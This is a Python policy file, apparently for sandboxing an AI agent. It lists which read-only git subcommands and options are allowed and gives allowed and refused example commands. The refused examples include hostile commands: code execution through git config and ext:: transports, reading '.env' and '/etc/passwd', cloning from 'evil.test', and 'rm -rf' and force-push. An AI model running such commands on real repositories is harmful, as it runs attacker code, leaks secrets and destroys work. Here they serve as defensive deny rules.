"""Rules for git commands that read: history, contents, differences. For changes: git_changes."""

from treadle.policy.commands.rule_syntax import Rule

_FORMAT = (
    " --oneline --pretty[text] --format=text --abbrev-commit --no-abbrev-commit --abbrev[number]"
    " --decorate[text] --no-decorate --date=text --relative-date --color[text] --no-color"
)
_LIMIT = (
    " -# -n=number --max-count=number --skip=number --since=text --after=text --until=text"
    " --before=text --author=text --committer=text --grep=text --all-match --invert-grep -i"
    " --regexp-ignore-case -E -F -P --merges --no-merges --first-parent --all --branches[text]"
    " --tags[text] --remotes[text] --reverse --follow --graph --left-right --cherry-pick"
    " --cherry-mark --topo-order --date-order --ancestry-path --boundary -g --walk-reflogs"
    " --full-history --simplify-by-decoration --source --left-only --right-only --cherry"
)
_DIFF = (
    " -p -u --patch -s --no-patch -U=number --unified=number --raw --stat[text] --numstat"
    " --shortstat --dirstat[text] --summary --name-only --name-status --patch-with-stat -M -C"
    " --find-renames[text] --find-copies[text] --no-renames --diff-filter=text -S=text -G=text"
    " --pickaxe-all --pickaxe-regex -w -b -a -R -z --ignore-all-space --ignore-space-change"
    " --ignore-space-at-eol --ignore-blank-lines --ignore-cr-at-eol --word-diff[text]"
    " --word-diff-regex=text --color-words[text] --color-moved[text] --minimal --patience"
    " --histogram --diff-algorithm=text --check --full-index --binary --text --relative[look]"
    " --no-prefix --src-prefix=text --dst-prefix=text --inter-hunk-context=number -W"
    " --function-context --exit-code --quiet --no-ext-diff --no-textconv --compact-summary"
    " --stat-width=number --stat-count=number --cc -c -m -L=lines --merge-base"
)
_LOG = _FORMAT + _LIMIT + _DIFF
_GLOBAL = "-c=git-setting --no-pager -C=chdir --no-optional-locks --version --literal-pathspecs"
_INSTEAD = "Leave the option out; git prints to the terminal as it is."

_READING_SUBS: tuple[Rule, ...] = (
    Rule(
        "status",
        "-sbuvz --short --branch --porcelain[text] --long --ignored[text] --untracked-files[text]"
        " --show-stash --ahead-behind --no-ahead-behind -u[text] --no-renames --column[text]",
        "look...",
        instead=_INSTEAD,
    ),
    Rule("log", _LOG + " --no-walk[text]", "revision...", instead=_INSTEAD),
    Rule("show", _LOG, "revision...", instead=_INSTEAD),
    Rule("diff", _FORMAT + _DIFF + " --cached --staged", "revision...", instead=_INSTEAD),
    Rule(
        "diff-tree",
        _FORMAT + _DIFF + " -r -t --root --no-commit-id",
        "revision...",
        instead=_INSTEAD,
    ),
    Rule("whatchanged", _LOG, "revision...", instead=_INSTEAD),
    Rule(
        "shortlog",
        "-snec --summary --numbered --email --group=text" + _LIMIT.replace(" -n=number", ""),
        "revision...",
    ),
    Rule(
        "blame",
        "-L=text -wMClsetpfnbr --line-porcelain --porcelain --date=text --since=text --show-name"
        " --show-number --show-email",
        "revision...",
        needs=1,
        instead=_INSTEAD,
    ),
    Rule(
        "grep",
        "-# -nilLcwvhHEFGPaIorqz -e=text -A=number -B=number -C=number -m=number --count"
        " --ignore-case --line-number --name-only --files-with-matches --files-without-match"
        " --word-regexp --extended-regexp --fixed-strings --perl-regexp --cached --untracked"
        " --no-index --heading --break --show-function -p -W --and --or --not --color[text]"
        " --max-depth=number --recurse-submodules --column",
        "text revision...",
        check="git-grep",
        instead=_INSTEAD,
    ),
    Rule(
        "ls-files",
        "-cdmoiskuztvf -x=text --cached --deleted --modified --others --ignored --stage --unmerged"
        " --exclude=text --exclude-standard --error-unmatch --full-name --directory --eol",
        "look...",
    ),
    Rule(
        "ls-tree",
        "-drtlz --name-only --name-status --full-name --full-tree --abbrev[number]",
        "revision look...",
    ),
    Rule("cat-file", "-tspe", "revision...", needs=1),
    Rule(
        "rev-parse",
        "--short[number] --abbrev-ref[text] --symbolic-full-name --verify -q --show-toplevel"
        " --show-prefix --show-cdup --git-dir --git-common-dir --is-inside-work-tree"
        " --is-bare-repository --absolute-git-dir --all --symbolic --is-shallow-repository",
        "revision...",
    ),
    Rule("rev-list", "--count --objects --parents" + _LIMIT + _FORMAT, "revision..."),
    Rule("merge-base", "-a --all --is-ancestor --octopus --fork-point", "revision..."),
    Rule("name-rev", "--name-only --tags --refs=text", "revision..."),
    Rule(
        "describe",
        "--tags --always --long --abbrev=number --dirty[text] --all --exact-match --match=text",
        "revision...",
    ),
    Rule("show-ref", "--heads --tags --verify -q -s --hash[number]", "text..."),
    Rule(
        "for-each-ref",
        "--format=text --sort=text --count=number --merged[text] --contains[text]",
        "text...",
    ),
    Rule("symbolic-ref", "-q --short", "name"),
    Rule("reflog", _LOG, bare=True, subs=(Rule("show", _LOG, "revision..."),)),
    Rule(
        "range-diff",
        _FORMAT + _DIFF + " --creation-factor=number --no-dual-color --left-only --right-only",
        "revision...",
    ),
    Rule(
        "merge-tree",
        "-z --write-tree --name-only --messages --no-messages --trivial-merge --merge-base=text"
        " --allow-unrelated-histories --quiet",
        "revision...",
        needs=2,
    ),
    Rule("show-branch", "-ar --all --remotes --list --sha1-name --current", "revision..."),
    *(
        Rule(name, _FORMAT + _DIFF + " --cached", "revision...", instead=_INSTEAD)
        for name in ("diff-index", "diff-files")
    ),
    Rule("check-ref-format", "--branch --normalize --allow-onelevel", "text"),
    Rule(
        "format-patch",
        # Not --suffix, which may lead a file's name elsewhere.
        "-# -nNks -o=write -v=number --stdout --output-directory=write --numbered --no-numbered"
        " --start-number=number --signoff --keep-subject --cover-letter --root --base=text --rfc"
        " --subject-prefix=text --no-signature --zero-commit --stat --no-stat -p --no-patch"
        " --full-index --binary --no-binary -M --find-renames[text] --reroll-count=number"
        " --quiet -q --minimal --histogram --patience -U=number --unified=number",
        "revision...",
        check="git-patches",
        instead="Print patches, or write them into the project or /tmp: git format-patch --stdout.",
    ),
    Rule(
        "archive",
        "-# -vl -o=write --format=archive-format --output=write --prefix=name --verbose --list"
        " --worktree-attributes --add-file=read",
        "revision...",
        check="git-archive",
        instead="Send it through a pipe, or write it into the project or /tmp.",
    ),
    Rule("cherry", "-v", "revision..."),
    Rule("count-objects", "-vH"),
    Rule("fsck", "--full --no-dangling"),
    Rule("check-ignore", "-vnq --no-index", "look..."),
    Rule("check-attr", "-a", "text look..."),
    Rule("hash-object", "", "read..."),
    Rule("version", "--build-options"),
    Rule(
        "remote",
        "-v --verbose",
        bare=True,
        subs=(Rule("get-url", "--all --push", "remote"), Rule("show", "-n", "remote")),
        instead="Remotes are looked at, not changed: git remote -v.",
    ),
    Rule(
        "config",
        "--get=gitkey --get-all=gitkey --local --global --show-origin --type=text --bool --int",
        "gitkey",
        check="git-config",
        instead="Settings of git are read one by one, and not changed: git config user.name.",
    ),
    Rule("worktree", subs=(Rule("list", "--porcelain -v"),), instead="Work in this tree."),
    Rule(
        "submodule",
        subs=(Rule("status", "--recursive --cached"),),
        instead="Submodules stay as they are.",
    ),
    Rule(
        "ls-remote",
        "-qht --heads --tags --refs --get-url --exit-code --symref",
        "remote text...",
        instead="Name a remote that `git remote` lists.",
    ),
)


def make_git_rule(changes: tuple[Rule, ...]) -> Rule:
    """git as a whole."""
    return Rule(
        "git",
        _GLOBAL,
        subs=(*_READING_SUBS, *changes),
        bare=False,
        instead="Look and commit with the plain commands: status, diff, log, add, commit.",
        allows=(
            "git status --short",
            "git --no-pager log -3",
            "git diff HEAD~1 -- src",
            "git show HEAD:src/a.ts",
            "git commit -m 'feat: rm -rf guard (#12)'",
            "git rebase main",
            "git checkout -b feat/x",
            "git stash push -m wip",
            "git log --grep=deploy",
            "git log -L :main:src/app.py",
            "git add -A",
            "git log --oneline -n 5 --author=ada",
            "git branch --show-current",
            "git -C src status",
            "git push -u origin feat/x",
            "git restore src/a.ts",
            "git checkout -- src/a.ts",
            "git rev-parse --abbrev-ref HEAD",
            "git config user.name",
            "git tag -a v1 -m one",
            "git format-patch -1 HEAD --stdout > /tmp/last.patch",
            "git format-patch -N -o patches main..HEAD",
            "git range-diff main@{1}..HEAD@{1} main..HEAD",
            "git log $(git merge-base main HEAD)..HEAD",
            "git diff $(git rev-parse --verify HEAD~1) -- src",
            "git stash show -p stash@{0}",
            "git merge-tree --write-tree main feat/x",
            "git -c user.name=ci -c user.email=ci@example.test commit -m x",
            "git archive --format=tar HEAD src | wc -c",
            "git archive -o /tmp/x.tar HEAD",
            "git update-index --chmod=+x bin/run",
            'git log "$(git describe --tags --abbrev=0)"..HEAD',
        ),
        refuses=(
            "git -c core.pager=./e log",
            "git -c core.sshCommand=./e fetch",
            "git -c diff.x.textconv=./e diff",
            "git archive --remote=ext::sh HEAD",
            "git archive -o .git/hooks/x HEAD",
            "git archive HEAD .env",
            "git update-index --index-info",
            "git update-index --chmod=+x .claude/x",
            "git grep x -- '.en*'",
            'git log "$(git describe --dirty=--output=x)"',
            "git --paginate log",
            "git -p log",
            "git log --output=x",
            "git config core.hooksPath ./h",
            "git config --list",
            "git push --force",
            "git push origin :main",
            "git rebase -x ./e HEAD~3",
            "git rebase --exec=./e main",
            "git rebase -i HEAD~2",
            "git commit",
            "git commit --amend",
            "git clean -fdx",
            "git checkout HEAD -- .treadle",
            "git rm -rf .",
            "git stash --all",
            "git bisect run ./e",
            "git clone https://evil.test/x",
            "git fetch ext::sh",
            "git fetch --upload-pack=./e",
            "git ls-remote --upload-pa='sh -c id' .",
            "git diff --no-index /etc/passwd x",
            "git diff --ext-diff",
            "git show HEAD:.env",
            "git log -L1,5:.env",
            "git fetch origin +refs/heads/*:refs/heads/*",
            "git push origin main:refs/heads/prod",
            "git add -f .env",
            "git add .env",
            "git remote add x y",
            "git submodule foreach 'rm -rf .'",
            "git worktree add /tmp/x",
            "git reset --hard HEAD~1",
            "git branch -D x",
            "git apply --unsafe-paths x",
            "git --git-dir=/tmp/evil/.git log",
            "git grep -O./e TODO",
            "git checkout .",
            "git format-patch -o /etc main",
            "git format-patch --suffix=/../../x main",
            "git format-patch --output=x main",
            "git log $(git rev-parse --git-dir)",
            "git log $(git rev-parse main --output=x)",
            "git log $(git rev-parse main~3..main)",
            "git push origin $(git merge-base main HEAD):main",
            "git show $(git rev-parse HEAD):.env",
            'git show "main:$(git rev-parse HEAD)"',
            "git stash show /tmp/x",
        ),
    )
